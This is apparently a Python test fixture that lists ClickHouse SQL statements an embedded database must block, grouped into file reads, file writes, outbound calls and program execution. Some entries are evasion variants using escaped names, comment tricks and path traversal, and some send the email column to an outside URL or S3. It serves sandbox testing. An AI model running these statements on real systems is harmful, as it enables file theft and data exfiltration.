"""Statements that would reach out of the embedded ClickHouse: to files, to other servers, to programs and to rights.

`{path}`, `{folder}`, `{url}` and `{address}` are where each would reach.
"""

READS_A_FILE = [
    "SELECT * FROM file('{path}', 'LineAsString')",
    "SELECT * FROM file('{path}', 'LineAsString', 'l String')",
    "SELECT file('{path}')",
    "SELECT FILE('{path}')",
    "SELECT \"fi\\x6ce\"('{path}')",
    "SELECT * FROM '{path}'",
    "SELECT * FROM `{path}`",
    'SELECT * FROM default."{path}"',
    "DESCRIBE file('{path}')",
    "SELECT * FROM fileCluster('default', '{path}', 'LineAsString')",
    "SELECT * FROM format(Values, 'x String', '(file(\\'{path}\\'))')",
    "SELECT * FROM format(JSONEachRow, 'a String, b String DEFAULT file(\\'{path}\\')', '{{\"a\":1}}')",
    "SELECT count() FROM mine.people SETTINGS additional_table_filters = {{'mine.people': 'file(\\'{path}\\') != 1'}}",
    "SELECT 1 AS x FORMAT Template SETTINGS format_template_row = '{path}'",
    "SELECT 1 AS x FORMAT Protobuf SETTINGS format_schema = '{path}:X'",
    "INSERT INTO mine.people FROM INFILE '{path}' FORMAT LineAsString",
    "INSERT INTO mine.people VALUES (file('{path}'))",
    "INSERT INTO mine.people FORMAT Values (file('{path}'))",
    "CREATE TABLE mine.f (l String) ENGINE = File(LineAsString, '{path}')",
    "CREATE DATABASE f ENGINE = Filesystem('{folder}')",
    "CREATE VIEW mine.v AS SELECT * FROM file('{path}', 'LineAsString', 'l String')",
    "CREATE TEMPORARY TABLE f (l String) ENGINE = File(LineAsString, '{path}')",
    "CREATE DICTIONARY mine.d (l String) PRIMARY KEY l SOURCE(FILE(PATH '{path}' FORMAT 'LineAsString')) "
    "LIFETIME(0) LAYOUT(COMPLEX_KEY_DIRECT())",
    "SELECT * FROM sqlite('{path}', 't')",
    "SELECT * FROM deltaLakeLocal('{folder}')",
    "SELECT * FROM filesystem('{folder}')",
    "RESTORE TABLE mine.people FROM File('{path}')",
]
WRITES_A_FILE = [
    "INSERT INTO FUNCTION file('{path}', 'LineAsString', 'l String') SELECT 'x'",
    "INSERT INTO TABLE FUNCTION file('{path}', 'CSV', 'l String') FORMAT CSV x",
    "SELECT 1 INTO OUTFILE '{path}'",
    "SELECT 1 INTO/**/OUTFILE '{path}' TRUNCATE",
    "BACKUP TABLE mine.people TO File('{path}')",
    "BACKUP TABLE mine.people TO Disk('default', '{path}')",
    "CREATE TABLE mine.f (l String) ENGINE = File(LineAsString, '{path}')",
    "CREATE TABLE mine.d (l String) ENGINE = MergeTree ORDER BY l SETTINGS disk = disk(type = local, path = '{path}/')",
    "CREATE TABLE mine.d (l String) ENGINE = MergeTree ORDER BY l "
    "SETTINGS disk = disk(type = object_storage, object_storage_type = 'local', path = '{path}/')",
    "ALTER TABLE mine.people FREEZE WITH NAME '../../../../../../../../../{path}'",
    "CREATE DATABASE f ENGINE = SQLite('{path}')",
]
CALLS_OUT = [
    "SELECT * FROM url('{url}/', 'CSV', 'a String')",
    "INSERT INTO FUNCTION url('{url}/', 'CSV', 'a String') SELECT email FROM mine.people",
    "SELECT * FROM s3('{url}/bucket/key', 'CSV', 'a String')",
    "INSERT INTO FUNCTION s3('{url}/bucket/key', 'a', 'b', 'CSV', 'a String') SELECT email FROM mine.people",
    "SELECT * FROM remote('{address}', system.one)",
    "SELECT * FROM remoteSecure('{address}', system.one)",
    "INSERT INTO FUNCTION remote('{address}', 'a', 'b') SELECT 1",
    "SELECT * FROM mysql('{address}', 'd', 't', 'u', 'p')",
    "SELECT * FROM postgresql('{address}', 'd', 't', 'u', 'p')",
    "SELECT * FROM mongodb('{address}', 'd', 't', 'u', 'p', 'a String')",
    "SELECT * FROM redis('{address}', 'k', 'k String')",
    "SELECT * FROM hdfs('hdfs://{address}/f', 'CSV', 'a String')",
    "SELECT * FROM odbc('DSN=x', 'd', 't')",
    "SELECT * FROM jdbc('jdbc:x', 'd', 't')",
    "SELECT * FROM azureBlobStorage('{url}', 'c', 'b', 'a', 'k', 'CSV', 'auto', 'a String')",
    "CREATE TABLE mine.u (a String) ENGINE = URL('{url}/', 'CSV')",
    "CREATE TABLE mine.k (a String) ENGINE = Kafka('{address}', 't', 'g', 'CSV')",
    "CREATE TABLE mine.q (a String) ENGINE = MySQL('{address}', 'd', 't', 'u', 'p')",
    "CREATE DATABASE q ENGINE = PostgreSQL('{address}', 'd', 'u', 'p')",
    "CREATE TABLE mine.w (l String) ENGINE = MergeTree ORDER BY l "
    "SETTINGS disk = disk(type = web, endpoint = '{url}/')",
    "CREATE DICTIONARY mine.d (l String) PRIMARY KEY l SOURCE(HTTP(URL '{url}/' FORMAT 'CSV')) "
    "LIFETIME(0) LAYOUT(COMPLEX_KEY_DIRECT())",
    "BACKUP TABLE mine.people TO S3('{url}/bucket/key', 'a', 'b')",
]
RUNS_A_PROGRAM = [
    "SELECT * FROM executable('x', 'CSV', 'a String')",
    "CREATE TABLE mine.e (a String) ENGINE = Executable('x', 'CSV')",
    "SELECT * FROM python('x')",
    "SELECT * FROM eval('SELECT 1') SETTINGS allow_experimental_eval_table_function = 1",
    "CREATE FUNCTION f AS x -> x",
    "CREATE USER u",
    "GRANT SELECT ON *.* TO default",
    "CREATE NAMED COLLECTION c AS a = 1",
    "SET dialect = 'kusto'",
    "SYSTEM SHUTDOWN",
]
